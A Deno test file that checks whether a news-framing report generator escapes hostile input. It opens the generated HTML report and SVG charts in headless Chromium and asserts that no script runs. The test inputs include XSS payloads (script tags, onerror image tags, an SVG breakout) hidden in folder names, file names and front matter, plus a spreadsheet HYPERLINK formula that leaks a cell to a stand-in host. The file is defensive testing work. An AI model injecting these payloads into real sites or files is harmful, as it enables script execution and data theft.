/**
 * Article text, titles and outlet names never run as code: the report of a corpus of
 * hostile articles (tests/fixtures/hostile) is opened in a real headless Chromium,
 * Debian's, installed with apt-get when missing.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { type BrowserContext, chromium, type Page } from "playwright-core";
import { runReport } from "../../src/report/report_cli.ts";

const HOSTILE = fileURLToPath(new URL("../fixtures/hostile", import.meta.url));
const CHROMIUM = "/usr/bin/chromium";

/** Installs Debian's chromium when it is missing (as root, as CI runs). */
async function ensureChromium(): Promise<void> {
  if (existsSync(CHROMIUM)) return;
  if (Deno.uid() !== 0) {
    throw new Error(
      `Cannot run the browser test: ${CHROMIUM} is missing; install it with: apt-get install -y chromium`,
    );
  }
  const out = await new Deno.Command("sh", {
    args: [
      "-c",
      "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends chromium",
    ],
    stdout: "piped",
    stderr: "piped",
  }).output();
  if (!out.success || !existsSync(CHROMIUM)) {
    throw new Error(`Cannot install chromium with apt-get:\n${new TextDecoder().decode(out.stderr)}`);
  }
}

/** What a page did while it was open. */
interface Watch {
  dialogs: string[];
  errors: string[];
}

function watch(page: Page): Watch {
  const w: Watch = { dialogs: [], errors: [] };
  page.on("dialog", (d) => {
    w.dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  page.on("pageerror", (e) => w.errors.push(`page error: ${e.message}`));
  page.on("console", (m) => {
    // A CSP report of a blocked inline script or event handler means markup got through.
    if (m.type() === "error") w.errors.push(`console: ${m.text()}`);
  });
  return w;
}

async function copy(from: string, to: string): Promise<void> {
  await Deno.mkdir(to, { recursive: true });
  for (const name of await readdir(from)) await Deno.copyFile(join(from, name), join(to, name));
}

async function open(context: BrowserContext, file: string): Promise<{ page: Page; seen: Watch }> {
  const page = await context.newPage();
  const seen = watch(page);
  await page.goto(pathToFileURL(file).href, { waitUntil: "load" });
  await page.waitForTimeout(150);
  return { page, seen };
}

Deno.test({
  name: "the report of hostile articles shows <script>, onerror, javascript: and </svg> as text in a real Chromium",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await ensureChromium();
    const tmp = await Deno.makeTempDir({ prefix: "framelens-browser-" });
    let context: BrowserContext | undefined;
    try {
      // The corpus folder's name, a bad file's name and its problem are shown on the page too.
      const corpus = join(tmp, `corpus <img src=x onerror="window.__pwned=1;alert('dir')">`);
      await copy(HOSTILE, corpus);
      await Deno.writeTextFile(
        join(corpus, `bad <img src=x onerror="window.__pwned=1;alert('name')">.md`),
        `---\noutlet: X\ndate: "<script>window.__pwned=1;alert('date')</script>"\n---\nText.\n`,
      );
      const out = join(tmp, "report");
      const r = await runReport({ corpus, out, log: () => {}, cache: false });
      assert.equal(r.articles, 5);
      assert.equal(r.problems, 1);
      context = await chromium.launchPersistentContext(join(tmp, "profile"), {
        executablePath: CHROMIUM,
        headless: true,
        args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
      });

      const { page, seen } = await open(context, join(out, "index.html"));
      assert.deepEqual(seen.dialogs, [], "no dialog opened");
      assert.deepEqual(seen.errors, [], "no script error and no blocked script");
      assert.equal(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned), undefined);
      const text = await page.evaluate(() => document.body.innerText);
      for (
        const shown of [
          "<script>window.__pwned=1;alert('outlet')</script>",
          `<img src=x onerror="window.__pwned=1;alert('title')">`,
          "</svg><script>window.__pwned=1</script></title><svg onload=alert(1)>",
          `=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")`,
          `O'Reilly & "Sons" <b>Daily</b>`,
          `corpus <img src=x onerror="window.__pwned=1;alert('dir')">`,
          `bad <img src=x onerror="window.__pwned=1;alert('name')">.md`,
          `"date" is "<script>window.__pwned=1;alert('date')</script>"`,
        ]
      ) assert.ok(text.includes(shown), `the page shows ${shown} as text`);
      assert.equal(await page.locator("script").count(), 0, "no script element in the page");
      assert.equal(await page.locator("body svg, body iframe, body object, body style").count(), 0);
      const hrefs = await page.locator("a[href]").evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""));
      assert.ok(hrefs.every((h) => !/^\s*javascript:/i.test(h)), "no javascript: link");
      const images = await page.locator("img").evaluateAll((is) =>
        is.map((i) => [i.getAttribute("src"), (i as HTMLImageElement).naturalWidth])
      );
      assert.ok(images.length >= 6, "the charts are on the page");
      for (const [src, width] of images) {
        assert.match(String(src), /^charts\/[a-z0-9-]+\.svg$/);
        assert.ok(Number(width) > 0, `${src} loads and renders`);
      }
      await page.close();

      const charts = (await readdir(join(out, "charts"))).filter((f) => f.endsWith(".svg"));
      assert.ok(charts.length >= 6);
      for (const chart of charts) {
        const { page, seen } = await open(context, join(out, "charts", chart));
        assert.deepEqual(seen.dialogs, [], `${chart}: no dialog`);
        assert.deepEqual(seen.errors, [], `${chart}: no error`);
        assert.equal(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned), undefined, chart);
        assert.equal(
          await page.evaluate(() => document.documentElement.namespaceURI),
          "http://www.w3.org/2000/svg",
          `${chart} is well-formed SVG, not an XML error page`,
        );
        assert.equal(await page.evaluate(() => document.querySelectorAll("script, foreignObject").length), 0, chart);
        const hasHandler = await page.evaluate(() =>
          [...document.querySelectorAll("*")].some((el) =>
            [...el.attributes].some((a) => /^on/i.test(a.name) || /javascript:/i.test(a.value))
          )
        );
        assert.equal(hasHandler, false, `${chart}: no event handler or javascript: attribute`);
        await page.close();
      }
      const outlets = await readFile(join(out, "charts", "articles-per-outlet.svg"), "utf8");
      assert.ok(outlets.includes("&lt;script&gt;") || outlets.includes("&#60;script&#62;"), "outlet shown as text");
    } finally {
      await context?.close();
      await Deno.remove(tmp, { recursive: true });
    }
  },
});
